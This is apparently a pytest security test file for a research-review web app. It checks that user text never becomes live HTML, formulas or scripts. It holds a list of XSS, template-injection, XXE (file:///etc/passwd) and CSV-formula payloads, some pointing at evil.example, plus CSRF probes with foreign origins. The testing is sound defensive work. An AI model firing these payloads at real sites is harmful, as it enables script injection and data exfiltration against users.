"""The review on a hostile network: what people write never becomes a page's own, and nobody does what they may not.

Routes are enumerated from the application and fields from the records' classes, so that a new one is tested without
a change here, or fails.
"""

from __future__ import annotations

import ast
import csv
import io
import itertools
import json
import random
import re
import shutil
import socket
import sqlite3
import threading
import time
import types
import typing
from collections.abc import Callable, Iterable, Iterator
from contextlib import closing, suppress
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit
from xml.etree import ElementTree

import httpx
import pydantic
import pytest
from fastapi import FastAPI
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient
from made_reviews import artifact, dataset, publish, work
from markdown_it import MarkdownIt

import medaudit.review
from medaudit.errors import DataError, UsageError
from medaudit.review import database, exports, freezing, grammar, log, people, quantities, releases, sites, workflow
from medaudit.review.database import Database
from medaudit.review.formats import bibtex, ris
from medaudit.review.importers import croissant, table
from medaudit.review.living import transports
from medaudit.review.people import Person
from medaudit.review.records import Artifact, Dataset, Record, Work, parse
from medaudit.review.web import app as web
from medaudit.review.web import cache, security, submitting
from medaudit.review.web.render import markdown

PASSWORD = "correct horse battery"
HERE = Path(medaudit.review.__file__).parent
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.filterwarnings("ignore:Using `httpx` with")


# A site and its visitors -------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Site:
    """A site with one person and one token a role, and a second reviewer and editor."""

    db: Database
    app: FastAPI
    staff: dict[str, Person]
    tokens: dict[str, str]

    def token(self, role: str | None) -> dict[str, str]:
        return {"authorization": f"Bearer {self.tokens[role]}"} if role else {}

    def client(self, role: str | None = None, *, address: str = "198.51.100.1", raises: bool = True) -> TestClient:
        """Return a browser; with a role it is signed in, and ``client.csrf`` is the secret of its forms."""
        client = TestClient(
            self.app, base_url="http://review.test", follow_redirects=False, client=(address, 50_000),
            raise_server_exceptions=raises,
        )  # fmt: skip
        if role is not None:
            with self.db.writing() as connection:
                secret, session = people.sign_in(connection, self.staff[role])
            client.cookies.set(security.COOKIE, secret)
            client.csrf = session.csrf  # type: ignore[attr-defined]
        return client

    def propose(self, who: str, *records: Record, title: str = "t") -> int:
        with self.db.writing() as connection:
            return workflow.propose(connection, self.staff[who], title, workflow.putting(connection, records))


@pytest.fixture(autouse=True)
def quick_passwords(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(people._SCRYPT, "n", 2**4)


@pytest.fixture(autouse=True)
def asked(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """No connection leaves and no name is looked up in any test of this file; the list is of those who tried."""
    tried: list[object] = []

    def refuse(*args: object, **_: object) -> None:
        tried.append(args)
        raise AssertionError(f"a connection was to leave: {args[-1]!r}")

    def connect(self: socket.socket, address: object, real: Any = socket.socket.connect) -> None:
        local = self.family == getattr(socket, "AF_UNIX", None)
        if local or (isinstance(address, tuple) and address[0] in ("127.0.0.1", "::1")):
            return real(self, address)
        return refuse(address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    for name in ("getaddrinfo", "gethostbyname", "gethostbyname_ex"):
        monkeypatch.setattr(socket, name, refuse)
    return tried


def opened(db: Database, staff: dict[str, Person], **options: Any) -> Site:
    with db.writing() as connection:
        for person in staff.values():
            people.set_password(connection, person.name, PASSWORD)
        tokens = {role: people.give_token(connection, person, "test") for role, person in staff.items()}
    return Site(db, web.create(db, **options), staff, tokens)


@pytest.fixture
def site(db: Database, staff: dict[str, Person]) -> Site:
    publish(
        db, staff["contributor"], staff["reviewer"], work("w"), dataset("a", produced_by=["w"]), dataset("b"),
        artifact("x", "a", works=["w"]),
    )  # fmt: skip
    return opened(db, staff)


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found, html
    return found[1]


def typed_in(site: Site, name: str, password: str = PASSWORD, *, client: TestClient | None = None, **more: str) -> Any:
    """Sign in with the form, as a person does; return the answer."""
    client = client or site.client()
    form = client.get("/sign-in").text
    return client.post("/sign-in", data={"csrf": csrf_of(form), "name": name, "password": password, **more})


@dataclass(frozen=True)
class Route:
    """One method of one address of the application."""

    method: str
    path: str

    @property
    def api(self) -> bool:
        return self.path.startswith("/api/v1")

    @property
    def safe(self) -> bool:
        return self.method in security.SAFE

    def at(self, **values: object) -> str:
        kinds = "datasets" if self.api else "dataset"
        filled = {"kind": kinds, "slug": "a", "form": "croissant" if self.api else "cite.bib", "name": "review.css",
                  "version": "v2026.01", "number": 1, "action": "accept"} | values  # fmt: skip
        return re.sub(r"\{(\w+)\}", lambda match: str(filled[match[1]]), self.path)


def routes(app: FastAPI) -> list[Route]:
    found = [
        Route(method, str(one.path_format if hasattr(one.original_route, "path_format") else one.path))
        for one in iter_route_contexts(app.routes)
        for method in sorted(one.methods or ())
        if not (method == "HEAD" and "GET" in (one.methods or ()))
    ]
    assert len(found) > 40
    return found


def fields_of(route: Route) -> dict[str, str]:
    """Return a form that each page would take."""
    return {"action": "preview", "form": "yaml", "text": "kind: dataset\nslug: a\nname: A\n", "number": "1",
            "reason": "spam", "name": "nobody at all", "password": "x" * 12, "base": "1", "note": "n",
            "dataset": "a", "finding": "bias|sex", "title": "T", "summary": "S", "url": "https://example.org/",
            } | ({"action": "accept"} if route.path == "/contributions/{number}" else {})  # fmt: skip


def state(db: Database) -> str:
    """Everything that is kept, people's sessions left out, as SQLite gives it."""
    with closing(sqlite3.connect(str(db.engine.url.database))) as raw:
        return "\n".join(line for line in raw.iterdump() if not line.startswith('INSERT INTO "session"'))


# What people write -------------------------------------------------------------------------------------------------

PAYLOADS = (
    "<script>zq7()</script>",
    "</title><script src=https://evil.example/zq7.js></script>",
    "\"><img src=zq7 onerror=zq7()>",
    "' onmouseover='zq7()' zq7='",
    "\" autofocus onfocus=zq7() zq7=\"",
    "</textarea></pre></script><svg/onload=zq7()>",
    "<svg><animate onbegin=zq7() attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:zq7()\"><text>zq7</text></a></svg>",
    "<math><mi//xlink:href=\"data:x,<script>zq7()</script>\">",
    "<iframe srcdoc='<script>zq7()</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:zq7()'>",
    "<base href=//evil.example/zq7/>",
    "<style>@import 'https://evil.example/zq7'</style>",
    "<form action=//evil.example/zq7><input name=password>",
    "[zq7](javascript:zq7())",
    "[zq7](JaVa\tScript:zq7) [zq7](<java script:zq7>)",
    "[zq7](&#106;avascript:zq7) [zq7](javascript&colon;zq7) [zq7](\\javascript:zq7)",
    "[zq7](data:text/html;base64,PHNjcmlwdD56cTcoKTwvc2NyaXB0Pg==)",
    "[zq7](vbscript:zq7) <javascript:zq7> <data:text/html,zq7> [zq7]: javascript:zq7",
    "![zq7](https://evil.example/zq7.png \"zq7\") ![zq7](javascript:zq7)",
    "[zq7](https://example.org/\"onclick=\"zq7()) [a](https://example.org 'x\" onclick=zq7() y=\"')",
    "[zq7](//evil.example/zq7) [zq7](\\\\evil.example/zq7)",
    "&lt;script&gt;zq7()&lt;/script&gt; &#60;img src=zq7 onerror=zq7()&#62;",
    "{{7919*7907}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7919*7907} #{7919*7907}",
    "{{ self._TemplateReference__context.environment }}{# zq7 #}",
    "<!--><script>zq7()</script>--> <![CDATA[<script>zq7()</script>]]> ]]>",
    "<!DOCTYPE zq7 [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "\u202ezq7\u202c \u2066zq7\u2069 zq7",
    "\u200fzq7\u200e \ufeffzq7 \uff1cscript\uff1ezq7\uff1c/script\uff1e",
    "=cmd|'/c calc'!A1",
    "+1+zq7",
    "-2+3+zq7",
    "@SUM(1+1)*zq7",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"zq7\")",
    "`</code><script>zq7()</script>` ``` </pre><script>zq7()</script>",
    "*</em><b onclick=zq7()>* > - 1. # | a | b | ~~~ zq7",
)  # fmt: skip
TURNED = re.compile(r"[\u202a-\u202e\u2066-\u2069]")
_REFERS = {"work": "w", "works": "w", "produced_by": "w", "cite": "w", "to": "b", "dataset": "a", "artifact": "x"}
_WORDS = {"modalities": ("CR",), "tasks": ("classification",), "finding": "sex"}


def filled(model: type[pydantic.BaseModel], payload: str, **given: Any) -> list[dict[str, Any]]:
    """Return the class's values with the payload in each text that it has; three where it takes one of three sources."""
    values: dict[str, Any] = {}
    for name, field in model.model_fields.items():
        values[name] = given[name] if name in given else _value(name, field.annotation, field.metadata, payload)
    sources = [name for name in ("work", "url", "package") if name in values]
    if len(sources) == 3:
        return [{k: v for k, v in values.items() if k not in sources or k == kept} for kept in sources]
    return [values]


def _value(name: str, annotation: Any, metadata: Iterable[Any], payload: str) -> Any:
    origin, arguments = typing.get_origin(annotation), typing.get_args(annotation)
    if origin is typing.Annotated:
        return _value(name, arguments[0], [*metadata, *arguments[1:]], payload)
    if name in _WORDS:
        return _WORDS[name]
    if origin in (typing.Union, types.UnionType):
        chosen = next((one for one in arguments if one is str), arguments[0])
        return _value(name, chosen, metadata, payload)
    if origin is typing.Literal:
        return "bias" if "bias" in arguments else arguments[0]
    if origin is tuple:
        inner = arguments[0]
        if isinstance(inner, type) and issubclass(inner, pydantic.BaseModel):
            return filled(inner, payload)
        return [_value(name, inner, metadata, payload)]
    if origin is dict:
        return {"tool": payload, payload: {payload: [payload]}}
    if annotation is str:
        return _text(name, list(metadata), payload)
    return {int: 2020, float: 0.25, bool: True}[annotation]


def _text(name: str, metadata: list[Any], payload: str) -> str:
    checks = {getattr(one.func, "__name__", "") for one in metadata if isinstance(one, pydantic.AfterValidator)}
    if "_slug" in checks:
        return _REFERS[name]
    if "_url" in checks:
        return "https://example.org/" + re.sub(r"[\s<>\"'\\]", "", payload)
    if "_doi" in checks:
        return "10.1234/" + "".join(payload.split())[:200]
    if "_arxiv" in checks:
        return "2501.10727"
    if "_date" in checks:
        return "2020-07-31"
    if "_date" in checks or any("pattern" in repr(one) for one in metadata):
        return {"openalex": "W1", "pmid": "1"}.get(name, "2020-07-31")
    longest = min((one.max_length for one in metadata if hasattr(one, "max_length")), default=10_000)
    return payload[:longest]


def texts(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield where texts stand in nested values."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield from texts(inner, (*path, key))
    elif isinstance(value, list | tuple):
        for n, inner in enumerate(value):
            yield from texts(inner, (*path, n))


def plain_records(n: int, payload: str) -> list[dict[str, Any]]:
    """Return a dataset, an artifact and a work with the payload in every text that they have."""
    (made,) = filled(Dataset, payload, slug=f"d{n}", status="active")
    (found,) = filled(Artifact, payload, slug=f"f{n}")
    (told,) = filled(Work, payload, slug=f"w{n}")
    found["about"] = [{**one, "dataset": f"d{n}"} for one in found["about"]]
    return [made, found, told]


class Page(HTMLParser):
    """What an HTML parser sees: elements with their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = [name for name, _ in attrs]
        assert len(set(names)) == len(names), (tag, attrs)
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def known_structure() -> tuple[set[str], set[tuple[str, str]]]:
    """Elements, and their attributes, that the templates and plain Markdown have: all that a page may have."""
    elements: set[str] = set(re.findall(r"\w+", "p em strong a code pre ul ol li h1 h2 h3 h4 h5 h6 blockquote hr br"))
    attributes = {("a", "href"), ("a", "title"), ("ol", "start"), ("code", "class")}
    for template in sorted((HERE / "web" / "templates").glob("*.html")):
        bare = re.sub(r"\{#.*?#\}|\{%.*?%\}|\{\{.*?\}\}", " x ", template.read_text(), flags=re.DOTALL)
        for tag, inside in re.findall(r"<([a-z]\w*)((?:\"[^\"]*\"|[^>\"])*)>", bare):
            elements.add(tag)
            named = re.sub(r"\"[^\"]*\"", "", inside)
            attributes |= {(tag, name.lower()) for name in re.findall(r"[\w:-]+", named)}
    return elements, attributes


ELEMENTS, ATTRIBUTES = known_structure()
_FREE = {"value", "href", "title", "aria-label"}
"""Attributes that may hold what people wrote."""


def check_page(html: str, where: str) -> Page:
    page = Page(html)
    assert page.others == [], where
    for tag, attributes in page.elements:
        assert tag in ELEMENTS, (where, tag, attributes)
        for name, value in attributes.items():
            assert (tag, name) in ATTRIBUTES, (where, tag, attributes)
            assert not name.startswith("on"), (where, tag, attributes)
            assert name != "style", (where, tag, attributes)
            assert name in _FREE or "zq7" not in value, (where, tag, attributes)
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                bare = re.sub(r"[\x00-\x20]", "", value)  # as a browser reads it (URL Standard, 4.4)
                scheme = urlsplit(bare).scheme.lower()
                assert scheme in ("http", "https", ""), (where, value)
                assert scheme or re.match(r"/(?![/\\])|[#?]|$", bare), (where, value)
                if tag == "script" or name in ("action", "formaction"):
                    assert bare.startswith("/"), (where, value)
    assert [a for tag, a in page.elements if tag == "script"] == [{"src": "/static/review.js", "defer": ""}], where
    assert "62615533" not in page.text, where
    assert "jinja2.environment" not in page.text, where
    return page


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A site where each payload stands in every text of a dataset, an artifact and a work, accepted by a second one."""
    from made_reviews import hire

    db = database.connect(tmp_path_factory.mktemp("hostile") / "r.sqlite", create=True)
    staff = hire(db)
    made = opened(db, staff)
    publish(db, staff["contributor"], staff["reviewer"], work("w"), dataset("a"), dataset("b"), artifact("x", "a"))
    for n, payload in enumerate(PAYLOADS):
        records = [parse(one, "record") for one in plain_records(n, TURNED.sub("", payload))]
        with db.writing() as connection:
            number = workflow.propose(
                connection, staff["contributor"], payload, workflow.putting(connection, records), note=payload,
                interests=payload,
            )  # fmt: skip
            workflow.accept(connection, staff["reviewer"], number, payload)
            again = [parse(one | ({"year": 2001} if "year" in one else {"severity": "major"}), "record")
                     for one in plain_records(n, TURNED.sub("", payload[::-1]))]  # fmt: skip
            number = workflow.propose(connection, staff["contributor"], "again", workflow.putting(connection, again))
            workflow.accept(connection, staff["reviewer"], number)
            back = workflow.propose(connection, staff["contributor"], "back", workflow.putting(connection, records))
            workflow.accept(connection, staff["reviewer"], back)
            for how in ("reject", "changes", "open"):
                one = dataset("a", description=TURNED.sub("", payload))
                number = workflow.propose(connection, staff["bot"], payload, workflow.putting(connection, [one]),
                                          note=payload, interests=payload)  # fmt: skip
                if how == "reject":
                    workflow.reject(connection, staff["reviewer"], number, "spam", payload)
                elif how == "changes":
                    workflow.request_changes(connection, staff["reviewer"], number, payload)
    with db.writing() as connection:
        freezing.freeze(connection, staff["editor"], "v2026.01", PAYLOADS[0] + " " + PAYLOADS[14])
    publish(db, staff["contributor"], staff["reviewer"], dataset("a", description=PAYLOADS[2]))
    yield made
    db.close()


def addresses_of_records() -> list[str]:
    found = []
    for n in range(len(PAYLOADS)):
        found += [f"/datasets/d{n}", f"/artifacts/f{n}", f"/works/w{n}", f"/graph/dataset/d{n}?hops=2",
                  f"/graph/artifact/f{n}", f"/graph/work/w{n}", f"/history/dataset/d{n}", f"/history/artifact/f{n}",
                  f"/history/work/w{n}"]  # fmt: skip
    return found


def test_every_text_of_every_record_is_filled() -> None:
    """The corpus is where it should be: whatever the classes hold as text holds the payload, but for closed words."""
    for plain in plain_records(0, PAYLOADS[0]):
        parse(plain, "record")
        bare = set()
        for path in texts(plain):
            value: Any = plain
            for step in path:
                value = value[step]
            if "zq7" not in value:
                bare.add(str([step for step in path if isinstance(step, str)][-1]))
        closed = {"kind", "slug", "status", "access", "modalities", "tasks", "scheme", "relation", "to", "produced_by",
                  "cite", "work", "works", "verification", "attribute", "unit", "type", "finding", "severity", "dataset",
                  "verb", "artifact", "evidence", "released", "reported", "on", "arxiv", "openalex", "pmid", "retracted",
                  "spdx"}  # fmt: skip
        assert bare <= closed


def test_no_public_page_has_an_element_attribute_or_address_from_what_people_wrote(hostile: Site) -> None:
    client = hostile.client()
    fixed = [route.at() for route in routes(hostile.app) if route.safe and not route.api and "{" not in route.path]
    fixed += ["/releases/v2026.01", "/releases/changes?earlier=v2026.01", "/compare?d=d0&d=d1&d=d2&d=d3&d=d4&d=d5"]
    seen = 0
    for path in [*fixed, *addresses_of_records()]:
        answer = client.get(path)
        if answer.headers.get("content-type", "").startswith("text/html"):
            assert answer.status_code == (
                303 if path in ("/submit", "/paste", "/contributions", "/queue", "/people") else 200
            ), path
            check_page(answer.text, path)
            seen += 1
    assert seen > 9 * len(PAYLOADS)


def test_a_payload_in_an_address_is_only_text(hostile: Site) -> None:
    client = hostile.client()
    for payload in PAYLOADS:
        for path, values in (
            ("/search", {"q": payload}), ("/search", {"q": f"color:{payload}"}), ("/search", {"q": f"year:{payload}"}),
            ("/compare", {"d": payload}), ("/releases/changes", {"earlier": payload}), ("/sign-in", {"then": payload}),
            ("/releases/changes", {"later": payload[:40]}), ("/search", {"q": "a", "offset": payload}),
        ):  # fmt: skip
            check_page(client.get(path, params=values).text, f"{path} {payload}")
        for path in (f"/releases/{payload[:20]}", f"/datasets/{payload}", f"/{payload}", f"/history/dataset/{payload}"):
            answer = client.get(quote(path[:200], safe="/"))
            assert answer.status_code in (301, 303, 307, 400, 404, 422)
            if answer.headers.get("content-type", "").startswith("text/html"):
                check_page(answer.text, path)


def test_no_page_of_those_who_are_signed_in_does_either(hostile: Site) -> None:
    with hostile.db.reading() as connection:
        last = workflow.listed(connection, hostile.staff["admin"], "", 0, 1_000)[-1]["id"]
    for role in ("admin", "bot"):
        client = hostile.client(role)
        paths = ["/contributions", "/queue", "/queue?state=", "/queue?state=rejected", "/people", "/submit", "/paste",
                 "/submit?dataset=%22%3E%3Cimg%20src=zq7%20onerror=zq7()%3E"]  # fmt: skip
        paths += [f"/contributions/{number}" for number in range(1, last + 1)]
        paths += [f"/edit/{kind}/{letter}{n}" for n in range(len(PAYLOADS))
                  for kind, letter in (("dataset", "d"), ("artifact", "f"), ("work", "w"))]  # fmt: skip
        paths += addresses_of_records()[::9]
        seen = 0
        for path in paths:
            answer = client.get(path)
            if answer.status_code == 200:
                check_page(answer.text, f"{role} {path}")
                seen += 1
        assert seen > len(PAYLOADS) * (7 if role == "admin" else 6)


def test_forms_give_back_what_was_typed_as_text(hostile: Site) -> None:
    client = hostile.client("contributor")
    for payload in PAYLOADS:
        for path, form in (
            ("/submit", {"action": "preview", **dict.fromkeys(("dataset", "type", "finding", "title", "summary",
             "severity", "doi", "work_title", "authors", "url", "note", "interests"), payload)}),
            ("/submit", {"action": "preview", "dataset": "a", "finding": "bias|sex", "severity": "info",
             **dict.fromkeys(("title", "summary", "work_title", "note"), payload)}),
            ("/paste", {"action": payload, "form": payload, "text": payload, "title": payload, "note": payload}),
            ("/edit/dataset/a", {"base": "1", "text": payload, "note": payload}),
            ("/edit/dataset/a", {"base": payload, "text": payload, "note": payload}),
            ("/contributions/1", {"action": payload}),
        ):  # fmt: skip
            answer = client.post(path, data={"csrf": client.csrf, **form})
            assert answer.status_code in (200, 400, 422), (path, answer.status_code)
            check_page(answer.text, f"{path} {payload}")
        wrong = typed_in(hostile, payload[:900], payload[:900], then=payload[:900],
                         client=hostile.client(address=f"203.0.113.{PAYLOADS.index(payload)}"))  # fmt: skip
        assert wrong.status_code == 401
        check_page(wrong.text, payload)


def test_no_export_or_answer_of_the_api_is_broken_by_what_people_wrote(hostile: Site) -> None:
    client = hostile.client()
    for n, payload in enumerate(TURNED.sub("", one) for one in PAYLOADS):
        for kind, slug in (("datasets", f"d{n}"), ("artifacts", f"f{n}"), ("works", f"w{n}")):
            answer = client.get(f"/api/v1/{kind}/{slug}")
            assert answer.headers["content-type"] == "application/json"
            record = answer.json()["record"]
            assert (record.get("name") or record["title"]) == payload.strip()
            for tail in ("", "/history"):
                assert client.get(f"/api/v1/{kind}/{slug}{tail}").headers["x-content-type-options"] == "nosniff"
        described = client.get(f"/datasets/d{n}/croissant.json")
        assert described.headers["content-type"].startswith("application/ld+json")
        assert described.json()["name"] == payload.strip()
        said = client.get(f"/datasets/d{n}/cite.bib")
        assert said.headers["content-type"].startswith("application/x-bibtex")
        for one in (client.get(f"/datasets/d{n}/findings.atom"), client.get("/findings.atom")):
            assert one.headers["content-type"].startswith("application/atom+xml")
            tags = {element.tag for element in ElementTree.fromstring(one.content).iter()}
            names = ("feed", "title", "id", "updated", "entry", "link", "summary", "author", "name")
            assert tags <= {f"{{http://www.w3.org/2005/Atom}}{name}" for name in names}
            assert b"<!DOCTYPE" not in one.content
        for path in (f"/api/v1/graph/datasets/d{n}", f"/api/v1/datasets/d{n}/warnings", "/api/v1/search?q=zq7"):
            assert client.get(path).headers["content-type"] == "application/json"


def test_bibtex_and_ris_of_hostile_works_are_read_back_by_other_programs(hostile: Site) -> None:
    import bibtexparser
    import rispy

    with hostile.db.reading() as connection:
        ours, other = exports.text(connection, "bibtex", []), exports.text(connection, "ris", [])
    many = len(PAYLOADS) + 1
    library = bibtexparser.parse_string(ours)
    assert (len(library.entries), len(library.failed_blocks)) == (many, 0)
    assert len(rispy.loads(other)) == many


def test_no_cell_of_the_csv_is_a_formula(hostile: Site) -> None:
    with hostile.db.reading() as connection:
        rows = list(csv.reader(io.StringIO(exports.text(connection, "csv", []), newline="")))
    cells = [cell for row in rows for cell in row]
    assert sum(cell.startswith("'") for cell in cells) > 10
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")), cell
    assert len({len(row) for row in rows}) == 1


def test_the_graph_and_the_site_of_files_are_as_clean(hostile: Site, tmp_path: Path) -> None:
    with hostile.db.reading() as connection:
        graph = ElementTree.fromstring(exports.text(connection, "graphml", []).encode())
    assert {one.tag.rpartition("}")[2] for one in graph.iter()} == {"graphml", "key", "graph", "node", "edge", "data"}
    sites.build(hostile.db, tmp_path / "site")
    pages = sorted((tmp_path / "site").rglob("*.html"))
    assert len(pages) > 3 * len(PAYLOADS)
    for path in pages:
        page = Page(path.read_text())
        for tag, attributes in page.elements:
            assert tag in ELEMENTS, (path, tag, attributes)
            assert not [name for name in attributes if (tag, name) not in ATTRIBUTES], (path, tag, attributes)
            for name in ("href", "src"):
                scheme = urlsplit(re.sub(r"[\x00-\x20]", "", attributes.get(name, ""))).scheme
                assert scheme in ("", "http", "https"), (path, attributes)


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_a_browser_runs_nothing_and_asks_nobody_on_the_worst_pages(hostile: Site) -> None:
    """Not our reading of the pages but Chromium's: no dialog, no refusal of the policy, no request elsewhere."""
    from playwright.sync_api import sync_playwright

    client, said = hostile.client(), []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        page = browser.new_page()
        page.add_init_script("window.zq7 = () => { throw new Error('zq7 ran'); };")
        page.on("console", lambda m: said.append(m.text) if m.type in ("error", "warning") else None)
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))

        def answer(route: Any) -> None:
            url = urlsplit(route.request.url)
            if url.netloc != "review.test":
                said.append(route.request.url)
                route.abort()
                return
            got = client.get(f"{url.path}?{url.query}")
            route.fulfill(status=got.status_code, headers=dict(got.headers), body=got.content)

        page.route("**/*", answer)
        for path in ["/", "/timeline", "/search?q=zq7", "/releases/v2026.01", *addresses_of_records()[::4]]:
            page.goto(f"http://review.test{path}")
            strange = page.evaluate(
                "[...document.querySelectorAll('*')].filter(e => /zq7/.test(e.localName) ||"
                " [...e.attributes].some(a => /^on|zq7|^style$/.test(a.name)) || /^(javascript|data):/i.test(e.href))"
                ".map(e => e.outerHTML)"
            )
            assert strange == [], path
        browser.close()
    # Over plain http a browser ignores one header, and says so.
    assert [one for one in said if not one.startswith("The Cross-Origin-Opener-Policy header has been ignored")] == []


def pasted(payload: str) -> dict[str, str]:
    clean = TURNED.sub("", payload)
    quoted = payload.replace('"', '""')
    plain = [one | {"slug": f"p-{one['slug']}"} for one in plain_records(0, clean)]
    plain[1]["about"] = [{"dataset": "a", "verb": "EXTEND"}]
    return {
        "bibtex": f"@article{{k,\n title = {{{payload}}},\n author = {{{payload} and B, A}},\n url = {{{payload}}},\n"
        f" journal = \"{payload}\",\n year = {{2020{payload}}}, doi = {{10.1234/{payload}}}\n}}\n"
        f"@misc{{q{len(payload)}, title = {{{payload}}}, author = {{{payload}}}, howpublished = {{{payload}}}}}",
        "ris": f"TY  - {payload}\nTI  - {payload}\nAU  - {payload}\nJO  - {payload}\nUR  - {payload}\nPY  - 2020\n"
        f"ID  - q{len(payload)}\nER  - \n",
        "csv": f'kind,slug,name,description,host,licence,aliases\ndataset,q-{len(payload)},"{quoted}","{quoted}",'
        f'"{quoted}","{quoted}","{quoted}"\n',
        "croissant": json.dumps({"@context": "https://evil.example/context.jsonld", "@type": "sc:Dataset",
                                 "name": payload, "description": payload, "url": payload, "license": payload,
                                 "rai:dataBiases": payload, "publisher": {"name": payload}, "version": payload,
                                 "alternateName": [payload], "keywords": payload}),
        "yaml": json.dumps(plain),
    }  # fmt: skip


def test_pasted_files_become_no_part_of_a_page_before_or_after_they_are_public(site: Site) -> None:
    author, reviewer, anybody = site.client("contributor"), site.client("reviewer"), site.client()
    accepted: dict[str, int] = {}
    for payload in PAYLOADS:
        for form, text in pasted(payload).items():
            for action in ("preview", "submit"):
                answer = author.post("/paste", data={"csrf": author.csrf, "form": form, "text": text, "action": action,
                                                     "title": payload, "note": payload})  # fmt: skip
                assert answer.status_code in (200, 303, 422), (form, payload)
                if answer.status_code != 303:
                    check_page(answer.text, f"{form} {payload}")
            if answer.status_code == 303:
                where = answer.headers["location"]
                check_page(reviewer.get(where).text, where)
                decided = reviewer.post(where, data={"csrf": reviewer.csrf, "action": "accept", "note": payload})
                assert decided.status_code in (303, 409)
                accepted[form] = accepted.get(form, 0) + 1
    assert {form for form in submitting.FORMATS if accepted.get(form, 0) > 15} == set(submitting.FORMATS), accepted
    for kind in ("datasets", "artifacts", "works"):
        items = anybody.get(f"/api/v1/{kind}?limit=200").json()["items"]
        for item in items:
            path = f"/{kind}/{item['record']['slug']}"
            check_page(anybody.get(path).text, path)
    check_page(anybody.get("/search").text, "search")


def test_markdown_links_lead_to_the_web_only_and_plain_markdown_still_works() -> None:
    peer = MarkdownIt("commonmark", {"html": False})
    text = 'A *b* **c** `d` [e](https://example.org/f?g=1&h=2 "i")\n\n- j\n- k\n\n> l\n\n1. m\n'
    assert str(markdown(text)) == peer.render(text)
    for scheme in ("javascript", "data", "vbscript", "file", "blob", "mailto", "about", "view-source", "ftp", "x"):
        for written in (scheme, scheme.upper(), f" {scheme}", f"\t{scheme}", f"&#x{ord(scheme[0]):x};{scheme[1:]}"):
            page = Page(str(markdown(f"[a]({written}:b) [c](<{written}:d>) <{scheme}:e>\n\n[f]: {written}:g\n\n[f]")))
            for tag, attributes in page.elements:
                assert (tag, attributes) in (("p", {}), ("code", {}), ("pre", {})), (written, tag, attributes)


def test_no_text_of_a_record_may_hide_control_characters_or_marks_that_turn_reading() -> None:
    taken = []
    for plain in plain_records(0, "word"):
        parse(plain, "record")
        for path, hidden in itertools.product(list(texts(plain)), ("a\u202eb", "a\x00b", "a\x1bb", "a\u2066b")):
            copy = json.loads(json.dumps(plain))
            inner = copy
            for step in path[:-1]:
                inner = inner[step]
            inner[path[-1]] = hidden
            try:
                parse(copy, "record")
                taken.append((plain["kind"], path))
            except DataError:
                pass
    assert taken == []


@pytest.mark.parametrize(
    "more", [{"openalex": "javascript:alert(1)//W1"}, {"pmid": "<b>1</b>"}, {"retracted": "2020-07-31<script>"}]
)
def test_an_identifier_or_a_date_is_nothing_but_that(more: dict[str, str]) -> None:
    with pytest.raises(DataError):
        work("w", **more)


def test_what_xml_cannot_hold_does_not_break_the_feed(site: Site) -> None:
    for letter in ("\ufffe", "\uffff"):
        try:
            publish(site.db, site.staff["bot"], site.staff["reviewer"], artifact("odd", "a", title=f"a{letter}b"))
        except DataError:
            continue
        ElementTree.fromstring(site.client().get("/findings.atom").content)


# Forms and tokens --------------------------------------------------------------------------------------------------


def unguarded(site: Site) -> list[str]:
    """Return the unsafe pages that take a form without its secret, with another's, or from another site."""
    found = []
    for route in routes(site.app):
        if route.safe or route.api:
            continue
        client, other, stranger = site.client("admin"), site.client("reviewer"), site.client()
        visit = csrf_of(stranger.get("/sign-in").text)
        right = {"csrf": client.csrf, **fields_of(route)}
        forms: dict[str, tuple[dict[str, str], dict[str, str]]] = {
            "no secret": ({**right, "csrf": ""}, {}),
            "none at all": (fields_of(route), {}),
            "another session's": ({**right, "csrf": other.csrf}, {}),
            "a visitor's": ({**right, "csrf": visit}, {"cookie": f"{security.ANONYMOUS}={visit}"}),
            "foreign": (right, {"origin": "https://evil.example"}),
            "foreign, alike": (right, {"origin": "http://review.test.evil.example"}),
            "foreign port": (right, {"origin": "http://review.test:8080"}),
        }
        for name, (form, headers) in forms.items():
            cookie = f"{security.COOKIE}={client.cookies[security.COOKIE]}"
            headers = {**headers, "cookie": "; ".join(filter(None, (cookie, headers.get("cookie"))))}
            before = state(site.db)
            answer = client.request(route.method, route.at(), data=form, headers=headers)
